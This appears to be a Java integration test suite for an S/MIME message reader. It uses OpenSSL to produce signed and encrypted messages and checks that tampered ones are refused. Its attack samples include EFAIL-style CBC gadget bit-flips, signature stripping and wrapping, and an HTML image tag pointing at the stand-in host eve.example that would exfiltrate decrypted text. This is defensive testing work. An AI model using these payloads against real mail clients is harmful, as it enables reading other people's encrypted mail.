package org.sealpost.smime;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.sealpost.mail.RawMessage;
import org.sealpost.testing.TestCertificate;
import org.sealpost.testing.TestIdentity;

/** Reads what OpenSSL signed and encrypted, and what an attacker made of it. */
class SmimeReaderOpensslIT {

    private static final String LETTER =
            "Content-Type: text/plain; charset=utf-8\n\nGr\u00fc\u00dfe, the dose is 20 mg.\n";
    private static final String SIGN = "cms -sign -signer bo.pem -inkey bo.key";
    private static final String HEADERS = " -from bo@patient.example -to ada@practice.example -subject Hello";

    @TempDir
    Path folder;

    private final SmimeReader reader = new SmimeReader(false);
    private TestIdentity practice;

    @BeforeEach
    void keys() throws Exception {
        practice = identity("practice", "ada@practice.example", "RSA-2048");
        identity("bo", "bo@patient.example", "P-256");
        Files.writeString(folder.resolve("letter"), LETTER);
    }

    @ParameterizedTest
    @CsvSource({
        "RSA-2048, aes-128-gcm, -keyopt rsa_padding_mode:pkcs1",
        "RSA-3072, aes-192-gcm, -keyopt rsa_padding_mode:oaep",
        "RSA-2048, aes-256-gcm, -keyopt rsa_padding_mode:oaep -keyopt rsa_oaep_md:sha256",
        "P-256, aes-128-gcm, -keyopt ecdh_kdf_md:sha1",
        "P-256, aes-256-gcm, -keyopt ecdh_kdf_md:sha256",
        "P-384, aes-256-gcm, -keyopt ecdh_kdf_md:sha384",
        "P-521, aes-256-gcm, -keyopt ecdh_kdf_md:sha512",
    })
    void decryptsAuthenticatedEncryptionForAKeyOf(String kind, String cipher, String options) throws Exception {
        practice = identity("practice", "ada@practice.example", kind);

        openssl("cms -encrypt -binary -" + cipher + HEADERS + " -in letter -out made -recip practice.pem " + options);
        SmimeReading.Read read = read();

        assertThat(read.decryption().orElseThrow().cipher().label()).isEqualToIgnoringCase(cipher);
        assertThat(read.decryption().orElseThrow().certificate()).isEqualTo(practice.certificate());
        assertThat(read.signature()).isInstanceOf(SignatureVerdict.None.class);
        assertThat(SmimeMessages.text(read.view())).contains("Gr\u00fc\u00dfe, the dose is 20 mg.");
        assertThat(read.view().value("Subject")).contains("Hello");
        assertThat(read.view().value("Content-Type")).contains("text/plain; charset=utf-8");
        assertThat(read.view().fields("MIME-Version")).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {"P-256", "P-384", "RSA-2048"})
    void verifiesAClearSignatureByAKeyOf(String kind) throws Exception {
        TestIdentity bo = identity("bo", "bo@patient.example", kind);

        openssl(SIGN + HEADERS + " -in letter -out made");
        SmimeReading.Read read = read();

        assertThat(read.signature()).isInstanceOfSatisfying(SignatureVerdict.Valid.class, valid -> {
            assertThat(valid.signer()).isEqualTo(bo.certificate());
            assertThat(valid.from().address()).isEqualTo("bo@patient.example");
            assertThat(valid.signedAt().orElseThrow()).isAfter(Instant.now().minus(Duration.ofMinutes(2)));
            assertThat(valid.capabilities()).isPresent();
        });
        assertThat(read.decryption()).isEmpty();
        assertThat(read.view().octets()).as("passed on as it came").isEqualTo(made().octets());
    }

    @ParameterizedTest
    @ValueSource(strings = {"-nodetach", "-nodetach -stream -indef", "-keyopt rsa_padding_mode:pss"})
    void verifiesASignatureMadeWith(String options) throws Exception {
        identity("bo", "bo@patient.example", options.contains("pss") ? "RSA-2048" : "P-256");

        openssl(SIGN + HEADERS + " -in letter -out made " + options);

        assertThat(read().signature()).isInstanceOf(SignatureVerdict.Valid.class);
        assertThat(read().view().octets()).isEqualTo(made().octets());
    }

    /** CAdES (ETSI EN 319 122-1) signs with which certificate it is to be verified: RFC 5035 section 5.4. */
    @ParameterizedTest
    @ValueSource(strings = {"-cades", "-cades -md sha512", "-cades -nodetach"})
    void verifiesASignatureThatNamesItsCertificate(String options) throws Exception {
        openssl(SIGN + HEADERS + " -in letter -out made " + options);

        assertThat(read().signature()).isInstanceOf(SignatureVerdict.Valid.class);
    }

    /** By the subject key identifier alone, another certificate of the same key would do. */
    @ParameterizedTest
    @CsvSource({"-cades, false", "'', true"})
    void believesNoSubstitutedCertificateWhereTheSignatureNamesTheSigners(String options, boolean believed)
            throws Exception {
        for (String name : List.of("first", "second")) {
            openssl("req -x509 -new -key bo.key -subj /CN=" + name
                    + " -addext subjectAltName=email:bo@patient.example -out " + name + ".pem");
        }

        openssl("cms -sign -keyid -nocerts -signer first.pem -inkey bo.key -certfile second.pem" + HEADERS
                + " -in letter -out made " + options);

        if (believed) {
            assertThat(read().signature()).isInstanceOf(SignatureVerdict.Valid.class);
        } else {
            assertThat(read().signature()).isEqualTo(new SignatureVerdict.Invalid(SignatureFault.OTHER_CERTIFICATE));
        }
    }

    @Test
    void readsCbcOnlyWithASignatureInsideAndLetsOutWhatItCovers() throws Exception {
        openssl(SIGN + " -in letter -out signed");
        openssl("cms -encrypt -aes-256-cbc" + HEADERS + " -in signed -out made practice.pem");

        SmimeReading.Read read = read();

        assertThat(read.signature()).isInstanceOf(SignatureVerdict.Valid.class);
        assertThat(read.decryption().orElseThrow().cipher()).isEqualTo(ContentCipher.AES_256_CBC);
        assertThat(read.view().value("Content-Type")).contains("text/plain; charset=utf-8");
        assertThat(SmimeMessages.text(read.view())).contains("20 mg").doesNotContain("S/MIME signed message");
    }

    @ParameterizedTest
    @ValueSource(strings = {"aes-128-cbc", "aes-192-cbc", "aes-256-cbc", "des3"})
    void refusesEncryptionWithoutATagAndWithoutASignature(String cipher) throws Exception {
        openssl("cms -encrypt -" + cipher + HEADERS + " -in letter -out made practice.pem");

        assertThat(reader.read(made(), identities()))
                .isEqualTo(new SmimeReading.Unread(
                        cipher.equals("des3") ? UnreadReason.ALGORITHM : UnreadReason.NOT_AUTHENTIC));
    }

    @ParameterizedTest
    @ValueSource(booleans = {true, false})
    void readsTripleDesWithASignatureInsideWhereTheOperatorAllowsIt(boolean allowed) throws Exception {
        openssl(SIGN + " -nodetach -in letter -out signed");
        openssl("cms -encrypt -des3" + HEADERS + " -in signed -out made practice.pem");

        SmimeReading reading = new SmimeReader(allowed).read(made(), identities());

        if (allowed) {
            assertThat(reading).isInstanceOf(SmimeReading.Read.class);
        } else {
            assertThat(reading).isEqualTo(new SmimeReading.Unread(UnreadReason.ALGORITHM));
        }
    }

    /** EFAIL's gadget (CVE-2017-17688): a block is put in, and the next one garbled, at every place in turn. */
    @Test
    void letsNothingOutWhateverBlockOfASignedCbcMessageIsChanged() throws Exception {
        openssl(SIGN + " -in letter -out signed");
        openssl("cms -encrypt -aes-256-cbc" + HEADERS + " -in signed -out made practice.pem");
        RawMessage made = made();
        String view = SmimeMessages.text(read().view());
        byte[] cms = Base64.getMimeDecoder().decode(SmimeMessages.body(made));
        int refused = 0;
        for (int at = 0; at < cms.length; at += 7) {
            byte[] changed = cms.clone();
            changed[at] ^= 0x21;
            SmimeReading reading = reader.read(withBody(made, changed), identities());
            if (reading instanceof SmimeReading.Read read) {
                // Blocks of what stands before the signed part, which is not let out.
                assertThat(SmimeMessages.text(read.view())).as("octet %d", at).isEqualTo(view);
            } else {
                refused++;
            }
        }
        assertThat(refused).isGreaterThan(cms.length / 7 / 2);
    }

    /** The signature stripped from inside of a CBC message is what Efail's authors did first. */
    @Test
    void refusesCbcWhoseSignatureWasPutOutside() throws Exception {
        openssl("cms -encrypt -aes-256-cbc -in letter -out encrypted practice.pem");
        openssl(SIGN + HEADERS + " -in encrypted -out made");

        assertThat(reader.read(made(), identities()))
                .isEqualTo(new SmimeReading.Unread(UnreadReason.NOT_AUTHENTIC, true));
    }

    @Test
    void refusesAChangedTagCiphertextAndKeyAllInTheSameWay() throws Exception {
        for (String options : List.of("rsa_padding_mode:pkcs1", "rsa_padding_mode:oaep")) {
            openssl("cms -encrypt -binary -aes-256-gcm" + HEADERS + " -in letter -out made -recip practice.pem -keyopt "
                    + options);
            byte[] cms = Base64.getMimeDecoder().decode(SmimeMessages.body(made()));
            int key = indexOfLongOctetString(cms);
            for (int at : new int[] {cms.length - 3, cms.length - 40, key + 5, key + 200}) {
                byte[] changed = cms.clone();
                changed[at] ^= 1;
                assertThat(reader.read(withBody(made(), changed), identities()))
                        .as("octet %d", at)
                        .isEqualTo(new SmimeReading.Unread(UnreadReason.NOT_AUTHENTIC));
            }
        }
    }

    @Test
    void readsSignedThenEncryptedWithATagAndKeepsTheSignature() throws Exception {
        openssl(SIGN + " -in letter -out signed");
        openssl("cms -encrypt -aes-256-gcm" + HEADERS + " -in signed -out made practice.pem");

        SmimeReading.Read read = read();

        assertThat(read.signature()).isInstanceOf(SignatureVerdict.Valid.class);
        assertThat(read.view().value("Content-Type").orElseThrow()).startsWith("multipart/signed");
        // Whoever gets it can verify it once more.
        assertThat(reader.read(read.view(), List.of()))
                .isInstanceOfSatisfying(
                        SmimeReading.Read.class,
                        again -> assertThat(again.signature()).isInstanceOf(SignatureVerdict.Valid.class));
    }

    @Test
    void readsEncryptedThenSigned() throws Exception {
        openssl("cms -encrypt -aes-256-gcm -in letter -out encrypted practice.pem");
        openssl(SIGN + HEADERS + " -nodetach -in encrypted -out made");

        SmimeReading.Read read = read();

        assertThat(read.signature()).isInstanceOf(SignatureVerdict.Valid.class);
        assertThat(SmimeMessages.text(read.view())).contains("20 mg");
    }

    @Test
    void asksForTheKeyOfTheOneCertificateItHas() throws Exception {
        identity("other", "other@practice.example", "RSA-2048");
        openssl("cms -encrypt -aes-256-gcm" + HEADERS + " -in letter -out made other.pem");

        assertThat(reader.read(made(), identities())).isEqualTo(new SmimeReading.Unread(UnreadReason.NO_KEY));

        openssl("cms -encrypt -aes-256-gcm" + HEADERS + " -in letter -out made other.pem practice.pem");
        assertThat(read().decryption()).isPresent();
    }

    @ParameterizedTest
    @CsvSource({
        "bo@patient.example, CONTENT_CHANGED, 20 mg -> 90 mg",
        "eve@patient.example, OTHER_ADDRESS, nothing",
        "'bo@patient.example, eve@patient.example', NO_ONE_AUTHOR, nothing",
        "bo@patient.example, NO_ONE_AUTHOR, From: bo@patient.example -> X: y",
        "bo@patient.example, MALFORMED, ------ -> ---",
    })
    void believesNoSignatureOf(String from, SignatureFault fault, String change) throws Exception {
        openssl(SIGN + " -to ada@practice.example -subject Hello -in letter -out made");
        String text = "From: " + from + "\r\n" + SmimeMessages.text(made());
        String[] replaced = change.split(" -> ");
        String changed = replaced.length == 1 ? text : text.replace(replaced[0], replaced[1]);
        assertThat(changed).isNotEqualTo(replaced.length == 1 ? "" : text);

        SmimeReading reading = reader.read(RawMessage.of(changed.getBytes(StandardCharsets.UTF_8)), identities());

        assertThat(reading)
                .isInstanceOfSatisfying(
                        SmimeReading.Read.class,
                        read -> assertThat(read.signature()).isEqualTo(new SignatureVerdict.Invalid(fault)));
    }

    @ParameterizedTest
    @CsvSource({"-md sha1, WEAK", "-noattr, NO_SIGNED_ATTRIBUTES", "-nocerts, NO_CERTIFICATE"})
    void believesNoSignatureMadeWith(String options, SignatureFault fault) throws Exception {
        openssl(SIGN + HEADERS + " -in letter -out made " + options);

        assertThat(read().signature()).isEqualTo(new SignatureVerdict.Invalid(fault));
    }

    /** "Johnny, you are fired!" section 4.2: a signed part beside one that nobody signed. */
    @Test
    void givesNoVerdictOnASignatureThatCoversAPartOnly() throws Exception {
        openssl(SIGN + " -in letter -out signed");
        RawMessage wrapped =
                mixed("Content-Type: text/plain\n\nGive her 90 mg.\n", Files.readString(folder.resolve("signed")));

        assertThat(reader.read(wrapped, identities())).isEqualTo(new SmimeReading.NotSmime(SmimeReading.Left.PART));
    }

    /** EFAIL's direct exfiltration: the ciphertext as one part of a page. */
    @Test
    void leavesACiphertextWithinAnotherMessageAlone() throws Exception {
        openssl("cms -encrypt -aes-256-gcm -in letter -out encrypted practice.pem");
        RawMessage page = mixed(
                "Content-Type: text/html\n\n<img src=\"http://eve.example/\n",
                Files.readString(folder.resolve("encrypted")));

        assertThat(reader.read(page, identities())).isEqualTo(new SmimeReading.NotSmime(SmimeReading.Left.PART));
    }

    /** Nothing but white space may follow the parts that the signature divides. */
    @Test
    void believesNoClearSignatureWithAThirdPart() throws Exception {
        openssl(SIGN + HEADERS + " -in letter -out made");
        String text = SmimeMessages.text(made());
        int end = text.lastIndexOf("------");
        String boundary = text.substring(end, text.indexOf("--\r\n", end));
        String third = text.substring(0, end) + boundary + "\r\nContent-Type: text/plain\r\n\r\n90 mg\r\n"
                + text.substring(end);

        assertThat(reader.read(RawMessage.of(third.getBytes(StandardCharsets.UTF_8)), identities()))
                .isInstanceOfSatisfying(
                        SmimeReading.Read.class,
                        read -> assertThat(read.signature())
                                .isEqualTo(new SignatureVerdict.Invalid(SignatureFault.MALFORMED)));
    }

    private static RawMessage mixed(String first, String second) {
        return SmimeMessages.of("From: bo@patient.example\nMIME-Version: 1.0\n"
                + "Content-Type: multipart/mixed; boundary=x\n\n--x\n" + first + "--x\n" + second + "\n--x--\n");
    }

    private static RawMessage withBody(RawMessage message, byte[] cms) {
        return SmimeMessages.of(
                SmimeMessages.header(message).replace("\r\n", "\n").stripTrailing() + "\n",
                Base64.getMimeEncoder().encode(cms));
    }

    /** Where the wrapped key begins. */
    private static int indexOfLongOctetString(byte[] cms) {
        for (int i = 0; i < cms.length - 4; i++) {
            if (cms[i] == 4 && cms[i + 1] == (byte) 0x82 && cms[i + 2] == 1 && cms[i + 3] == 0) {
                return i + 4;
            }
        }
        throw new IllegalStateException(
                "no key of 256 octets in " + Arrays.toString(cms).length());
    }

    private SmimeReading.Read read() throws IOException {
        return (SmimeReading.Read) reader.read(made(), identities());
    }

    private List<SmimeIdentity> identities() {
        return List.of(new SmimeIdentity(practice.certificate(), List.of(), practice.key(), Optional.empty()));
    }

    private TestIdentity identity(String name, String address, String kind) {
        TestIdentity identity =
                TestCertificate.of("CN=" + name, address).key(kind).issue();
        identity.write(folder, name);
        return identity;
    }

    /** OpenSSL ends the lines of its MIME header and base64 with LF. */
    private RawMessage made() throws IOException {
        return SmimeMessages.of(Files.readString(folder.resolve("made")).replace("\r\n", "\n"));
    }

    private void openssl(String arguments) throws Exception {
        List<String> command = new ArrayList<>(List.of("openssl"));
        command.addAll(List.of(arguments.strip().split(" +")));
        Process process = new ProcessBuilder(command)
                .directory(folder.toFile())
                .redirectErrorStream(true)
                .redirectOutput(folder.resolve("openssl.log").toFile())
                .start();
        assertThat(process.waitFor(60, TimeUnit.SECONDS)).as("openssl ended").isTrue();
        assertThat(process.exitValue())
                .as("openssl %s: %s", arguments, Files.readString(folder.resolve("openssl.log")))
                .isZero();
    }
}
